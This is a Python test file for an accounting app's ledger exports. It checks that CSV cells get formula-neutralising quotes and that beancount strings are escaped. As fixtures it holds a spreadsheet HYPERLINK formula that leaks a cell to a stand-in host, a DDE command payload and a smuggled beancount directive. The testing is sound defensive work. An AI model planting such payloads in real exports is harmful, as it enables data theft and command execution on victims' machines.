"""Exports (DESIGN.md §7): CSV cells a spreadsheet would evaluate are neutralised with a leading
quote while numbers stay numbers; beancount strings are escaped so text people typed can never
end its string or add a directive, and beancount's own checker still passes."""

from __future__ import annotations

import csv
import io
import re
import subprocess
import sys
from decimal import Decimal
from pathlib import Path

from beancount import loader
from django_tenants.utils import tenant_context

from commerce.services import order_upsert
from core.spreadsheet import csv_cell
from mappings.models import Account
from mappings.services import standard_chart_apply
from posting.models import JournalEntry, JournalLine
from posting.services import journal_post_order
from tests.commerce.factories import shopify_order

BASE_DIR = Path(__file__).resolve().parents[2]
HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")'
MEMO = 'Order #1001 "rush"\n2020-01-01 open Assets:Injected\r\n\\ end\ttab'


def _posted_with_hostile_text(world) -> JournalEntry:
    with tenant_context(world.acme):
        standard_chart_apply()
        order = order_upsert(source="shopify", connection_id=1, document=shopify_order()).obj
        entry = journal_post_order(order=order).entry
        revenue = JournalLine.objects.filter(entry=entry, credit__gt=0).order_by("position").first()
        Account.objects.filter(pk=revenue.account_id).update(name=HYPERLINK)
        JournalEntry.objects.filter(pk=entry.pk).update(memo=MEMO)
        lines = list(JournalLine.objects.filter(entry=entry).order_by("position"))
        for line, text in zip(
            lines, ("+cmd|' /C calc'!A0", "@SUM(A1:A9)", "-12.50", "\tindented", "-1+1"), strict=False
        ):
            JournalLine.objects.filter(pk=line.pk).update(description=text)
        return entry


def test_ledger_csv_neutralises_formulas_and_keeps_numbers(world, host_client):
    _posted_with_hostile_text(world)
    response = host_client(world.host(world.acme), world.acme_admin).get("/ledger/export.csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    names = {row["account_name"] for row in rows}
    assert "'" + HYPERLINK in names
    assert HYPERLINK not in names
    descriptions = [row["description"] for row in rows]
    assert "'+cmd|' /C calc'!A0" in descriptions
    assert "'@SUM(A1:A9)" in descriptions
    assert "'\tindented" in descriptions
    assert "'-1+1" in descriptions
    assert "-12.50" in descriptions  # a number stays a number
    assert {row["memo"] for row in rows} == {MEMO}  # starts with a letter: untouched
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "@", "\t", "\r")), (column, value)
            if value.startswith("-"):
                assert re.fullmatch(r"-\d+(\.\d+)?", value), (column, value)
        assert Decimal(row["debit"]) >= 0 and Decimal(row["credit"]) >= 0
    debits = sum(Decimal(row["debit"]) for row in rows)
    credits = sum(Decimal(row["credit"]) for row in rows)
    assert debits == credits > 0


def test_ledger_beancount_escapes_strings_and_passes_bean_check(world, host_client, tmp_path):
    entry = _posted_with_hostile_text(world)
    response = host_client(world.host(world.acme), world.acme_admin).get("/ledger/export.beancount")
    assert response.status_code == 200
    text = response.content.decode()
    assert "\n2020-01-01 open Assets:Injected" not in text
    entries, errors, _options = loader.load_string(text)
    assert errors == []
    opened = [e.account for e in entries if type(e).__name__ == "Open"]
    assert "Assets:Injected" not in opened
    transactions = [e for e in entries if type(e).__name__ == "Transaction"]
    assert len(transactions) == 1
    assert transactions[0].narration == MEMO  # escaped on the way out, read back exactly
    assert transactions[0].meta["source_key"] == entry.source_key
    ledger = tmp_path / "ledger.beancount"
    ledger.write_text(text)
    checked = subprocess.run(
        [str(Path(sys.executable).parent / "bean-check"), str(ledger)], capture_output=True, text=True, cwd=BASE_DIR
    )
    assert checked.returncode == 0, checked.stdout + checked.stderr


def test_csv_cell_rules():
    assert [csv_cell(v) for v in ("=1+1", "+A1", "-x", "@x", "\tx", "\rx")] == [
        "'=1+1",
        "'+A1",
        "'-x",
        "'@x",
        "'\tx",
        "'\rx",
    ]
    assert [csv_cell(v) for v in (Decimal("-12.50"), -3, "-12.50", "+4", "1e5", "plain", None, True)] == [
        Decimal("-12.50"),
        -3,
        "-12.50",
        "+4",
        "1e5",
        "plain",
        "",
        "True",
    ]


def test_every_csv_in_the_product_goes_through_the_one_helper():
    offenders = []
    for path in BASE_DIR.rglob("*.py"):
        relative = path.relative_to(BASE_DIR)
        if relative.parts[0] in {".venv", "tests", ".local", "node_modules"} or relative == Path("core/spreadsheet.py"):
            continue
        source = path.read_text(encoding="utf-8", errors="replace")
        if re.search(r"csv\.(writer|DictWriter)\(", source):
            offenders.append(str(relative))
    assert offenders == []


def test_partner_usage_csv_goes_through_the_helper(world, host_client, monkeypatch):
    from tenants import views_usage

    seen = []
    real = views_usage.csv_writer

    def spy(stream, **options):
        seen.append(stream)
        return real(stream, **options)

    monkeypatch.setattr(views_usage, "csv_writer", spy)
    response = host_client("northwind.localhost", world.partner_admin).get("/usage/?format=csv")
    assert response.status_code == 200
    assert seen and response.content.decode().startswith("month,tenant,")
